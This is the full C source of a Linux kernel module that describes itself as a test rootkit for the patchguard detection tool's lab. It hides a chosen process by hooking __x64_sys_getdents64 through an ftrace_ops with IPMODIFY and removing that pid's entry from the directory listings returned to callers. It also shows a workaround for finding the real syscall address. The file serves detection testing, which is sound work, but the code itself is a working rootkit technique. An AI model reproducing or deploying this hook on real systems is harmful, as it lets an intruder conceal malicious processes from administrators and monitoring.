// SPDX-License-Identifier: GPL-2.0
/*
 * pg_hide_pid: a test rootkit of patchguard's kernel lab (tests/lab/test_lab_hiding_and_entry.py).
 * Process hiding the way modern LKM rootkits do it: an ftrace_ops with IPMODIFY on
 * __x64_sys_getdents64 sends every call to pg_getdents64, which calls the real function and
 * then removes the directory entry named after the hidden pid from the caller's buffer. `ls
 * /proc` and `ps` no longer list the process; kill(pid, 0) and stat("/proc/<pid>") still answer,
 * which is what patchguard's hidden-process cross-view looks for.
 *
 *   insmod pg_hide_pid.ko pid=1234
 *
 * rmmod unregisters the ops and the process is listed again.
 */
#include <linux/types.h>
#include <linux/dirent.h>
#include <linux/ftrace.h>
#include <linux/kernel.h>
#include <linux/module.h>
#include <linux/moduleparam.h>
#include <linux/slab.h>
#include <linux/string.h>
#include <linux/uaccess.h>

#define TARGET "__x64_sys_getdents64"

static int pid;
module_param(pid, int, 0444);
MODULE_PARM_DESC(pid, "the pid whose /proc entry is hidden from directory listings");

static unsigned long hidden;
module_param(hidden, ulong, 0444);
MODULE_PARM_DESC(hidden, "how many times an entry was removed from a listing");

typedef long (*syscall_fn)(const struct pt_regs *);
static syscall_fn real_getdents64;
static char name[12];
static bool registered;

/* Remove the entry called `name` from the `len` bytes of dirents at `buf`; the new length. */
static long pg_filter(struct linux_dirent64 *buf, long len)
{
	long off = 0;

	while (off < len) {
		struct linux_dirent64 *d = (void *)buf + off;

		if (d->d_reclen == 0 || off + d->d_reclen > len)
			break;
		if (strcmp(d->d_name, name) == 0) {
			memmove(d, (void *)d + d->d_reclen, len - off - d->d_reclen);
			len -= d->d_reclen;
			WRITE_ONCE(hidden, READ_ONCE(hidden) + 1);
			continue;
		}
		off += d->d_reclen;
	}
	return len;
}

static long pg_getdents64(const struct pt_regs *regs)
{
	struct linux_dirent64 __user *dirent = (void __user *)regs->si;
	struct linux_dirent64 *copy;
	long len = real_getdents64(regs);

	if (len <= 0)
		return len;
	copy = kmalloc(len, GFP_KERNEL);
	if (!copy)
		return len;
	if (!copy_from_user(copy, dirent, len)) {
		long kept = pg_filter(copy, len);

		if (kept != len && !copy_to_user(dirent, copy, kept))
			len = kept;
	}
	kfree(copy);
	return len;
}

static void notrace pg_hide_callback(unsigned long ip, unsigned long parent_ip,
				     struct ftrace_ops *op, struct ftrace_regs *fregs)
{
	struct pt_regs *regs = ftrace_get_regs(fregs);

	/* The replacement's own call of the real function comes from this module: let it run. */
	if (!regs || within_module(parent_ip, THIS_MODULE))
		return;
	/* kallsyms_lookup_name is not exported since 5.7: the ftrace site is where the real
	 * function is entered (no IBT under the lab's TCG CPU, so skipping an ENDBR64 is fine). */
	WRITE_ONCE(real_getdents64, (syscall_fn)ip);
	regs->ip = (unsigned long)pg_getdents64;
}

static struct ftrace_ops pg_ops = {
	.func = pg_hide_callback,
	.flags = FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_IPMODIFY | FTRACE_OPS_FL_RECURSION,
};

static int __init pg_hide_pid_init(void)
{
	int err;

	if (pid <= 0)
		return -EINVAL;
	snprintf(name, sizeof(name), "%d", pid);
	err = ftrace_set_filter(&pg_ops, TARGET, strlen(TARGET), 0);
	if (err)
		return err;
	err = register_ftrace_function(&pg_ops);
	if (err) {
		ftrace_free_filter(&pg_ops);
		return err;
	}
	registered = true;
	pr_info("pg_hide_pid: pid %d hidden from getdents64\n", pid);
	return 0;
}

static void __exit pg_hide_pid_exit(void)
{
	if (registered)
		unregister_ftrace_function(&pg_ops);
	ftrace_free_filter(&pg_ops);
}

module_init(pg_hide_pid_init);
module_exit(pg_hide_pid_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("patchguard lab test rootkit: process hiding through a getdents64 hook");
